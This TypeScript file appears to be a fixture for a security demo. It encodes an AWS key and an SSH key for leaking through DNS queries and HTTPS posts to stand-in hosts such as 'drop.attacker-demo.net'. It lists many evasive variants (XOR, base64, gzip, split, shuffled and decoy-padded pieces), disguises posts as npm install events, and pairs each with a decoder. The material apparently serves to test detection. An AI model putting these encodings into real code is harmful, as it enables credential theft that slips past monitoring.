/**
 * The demo's two leaks in other clothes: how each is sent, and what a receiver that knows how makes of what arrived. The AWS key
 * goes by DNS, the SSH key by HTTPS.
 */
import { gunzipSync, gzipSync } from 'node:zlib';

export interface Request {
  headers?: Record<string, string>;
  /** JSON. */
  body: string;
}

export interface Heard {
  /** Names that were asked for, without the zone. */
  names: string[];
  requests: { headers: Record<string, string>; body: string }[];
}

interface Posted {
  send(secret: Buffer): Request[];
  read(heard: Heard): Buffer;
}
interface Asked {
  /** Names below the zone, in the order in which they are asked for. */
  ask(secret: Buffer): string[];
  read(heard: Heard): Buffer;
}

/** One under the demo's wildcard, and one that nobody listed. */
export const ZONES: readonly string[] = ['cdn.analytics-demo.com', 'drop.attacker-demo.net'];

const XOR = 0x5a;
const xored = (bytes: Buffer): Buffer => Buffer.from(bytes.map((byte) => byte ^ XOR));
const reversed = (bytes: Buffer): Buffer => Buffer.from(bytes).reverse();
const backwards = (text: string): string => [...text].reverse().join('');
const base64 = (bytes: Buffer | string): string => Buffer.from(bytes).toString('base64');
const debase64 = (text: string): Buffer => Buffer.from(text, 'base64');
const split = (text: string, count: number): string[] => {
  const size = Math.ceil(text.length / count);
  return Array.from({ length: count }, (_, i) => text.slice(i * size, (i + 1) * size));
};
const post = (fields: Record<string, string>, headers?: Record<string, string>): Request => ({
  ...(headers && { headers }),
  body: JSON.stringify({ event: 'install', agent: 'npm', ...fields }),
});
const field = ({ requests }: Heard, name: string): string =>
  requests.map(({ body }) => JSON.parse(body)[name] ?? '').join('');

const one = (encode: (secret: Buffer) => string, decode: (text: string) => Buffer): Posted => ({
  send: (secret) => [post({ detail: encode(secret) })],
  read: (heard) => decode(field(heard, 'detail')),
});
const names = ['x-build', 'x-request', 'x-trace'];

export const POSTED: Record<string, Posted> = {
  base64: one(base64, debase64),
  'base64 twice': one(
    (secret) => base64(base64(secret)),
    (text) => debase64(debase64(text).toString()),
  ),
  'gzip in base64': one(
    (secret) => base64(gzipSync(secret)),
    (text) => (text === '' ? Buffer.alloc(0) : gunzipSync(debase64(text))),
  ),
  'split over three JSON fields': {
    send: (secret) => {
      const [a = '', b = '', c = ''] = split(base64(secret), 3);
      return [post({ a, b, c })];
    },
    read: (heard) => debase64(['a', 'b', 'c'].map((name) => field(heard, name)).join('')),
  },
  'split over three headers': {
    send: (secret) => {
      const parts = split(base64(secret), 3);
      return [post({}, Object.fromEntries(names.map((name, i) => [name, parts[i] ?? ''])))];
    },
    read: ({ requests }) =>
      debase64(requests.flatMap(({ headers }) => names.map((name) => headers[name] ?? '')).join('')),
  },
  reversed: one(
    (secret) => reversed(secret).toString('latin1'),
    (text) => reversed(Buffer.from(text, 'latin1')),
  ),
  'base64, reversed': one(
    (secret) => backwards(base64(secret)),
    (text) => debase64(backwards(text)),
  ),
  'XORed with one byte': one(
    (secret) => base64(xored(secret)),
    (text) => xored(debase64(text)),
  ),
  'in twenty requests': {
    send: (secret) => split(base64(secret), 20).map((detail) => post({ detail })),
    read: (heard) => debase64(field(heard, 'detail')),
  },
  'ten bytes in each request': {
    send: (secret) => (secret.toString('latin1').match(/[\s\S]{1,10}/g) ?? []).map((detail) => post({ detail })),
    read: (heard) => Buffer.from(field(heard, 'detail'), 'latin1'),
  },
};

const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567';
function base32(bytes: Buffer): string {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  return (bits.match(/.{1,5}/g) ?? []).map((group) => BASE32[Number.parseInt(group.padEnd(5, '0'), 2)]).join('');
}
function debase32(text: string): Buffer {
  const bits = [...text].map((digit) => BASE32.indexOf(digit).toString(2).padStart(5, '0')).join('');
  return Buffer.from((bits.match(/.{8}/g) ?? []).map((byte) => Number.parseInt(byte, 2)));
}
const labels = (text: string): string => (text.match(/.{1,60}/g) ?? []).join('.');
const undotted = ({ names }: Heard): string => names.join('').replaceAll('.', '');
const hex = (bytes: Buffer): string => bytes.toString('hex');
const unhex = (text: string): Buffer => Buffer.from(text, 'hex');
const named = (encode: (secret: Buffer) => string, decode: (text: string) => Buffer): Asked => ({
  ask: (secret) => [labels(encode(secret))],
  read: (heard) => decode(undotted(heard)),
});
/** For twelve names. */
const pieces = (text: string): string[] => split(text, 12).filter((piece) => piece !== '');
/** A piece in each of twelve names. */
const apart = (encode: (secret: Buffer) => string, decode: (text: string) => Buffer): Asked => ({
  ask: (secret) => pieces(encode(secret)),
  read: (heard) => decode(undotted(heard)),
});
const numbered = /^\d+-/;
/** In an order that the receiver knows; 7 divides no count of pieces. */
const placeOf = (i: number, count: number): number => (i * 7 + 3) % count;
const shuffled = (pieces: readonly string[]): string[] => pieces.map((_, i) => pieces[placeOf(i, pieces.length)] ?? '');
function unshuffled(pieces: readonly string[]): string[] {
  const sorted: string[] = [];
  for (const [i, piece] of pieces.entries()) sorted[placeOf(i, pieces.length)] = piece;
  return sorted;
}

export const ASKED: Record<string, Asked> = {
  hex: named(hex, unhex),
  base32: named(base32, debase32),
  'base64 twice, in base32': named(
    (secret) => base32(Buffer.from(base64(base64(secret)))),
    (text) => debase64(debase64(debase32(text).toString()).toString()),
  ),
  'reversed, in hex': named(
    (secret) => hex(reversed(secret)),
    (text) => reversed(unhex(text)),
  ),
  'hex, reversed': named(
    (secret) => backwards(hex(secret)),
    (text) => unhex(backwards(text)),
  ),
  'XORed with one byte, in hex': named(
    (secret) => hex(xored(secret)),
    (text) => xored(unhex(text)),
  ),
  'XORed with one byte, in base32': named(
    (secret) => base32(xored(secret)),
    (text) => xored(debase32(text)),
  ),
  'split over twelve queries, in hex': apart(hex, unhex),
  'split over twelve queries, in base32': apart(base32, debase32),
  'split over twelve queries, numbered': {
    ask: (secret) => pieces(hex(secret)).map((piece, i) => `${i}-${piece}`),
    read: ({ names }) => unhex(names.map((name) => name.replace(numbered, '')).join('')),
  },
  'split over twelve queries, shuffled': {
    ask: (secret) => shuffled(pieces(hex(secret))),
    read: ({ names }) => unhex(unshuffled(names).join('')),
  },
  'split over twelve queries, between others': {
    ask: (secret) => pieces(hex(secret)).flatMap((piece, i) => [piece, `w${i}`]),
    read: ({ names }) => unhex(names.filter((name) => !name.startsWith('w')).join('')),
  },
  'split over twelve queries, from its end': {
    ask: (secret) => pieces(hex(secret)).reverse(),
    read: ({ names }) => unhex(names.toReversed().join('')),
  },
  'split over twelve queries, reversed': apart(
    (secret) => backwards(hex(secret)),
    (text) => unhex(backwards(text)),
  ),
  'split over twelve queries, XORed with one byte': apart(
    (secret) => hex(xored(secret)),
    (text) => xored(unhex(text)),
  ),
};
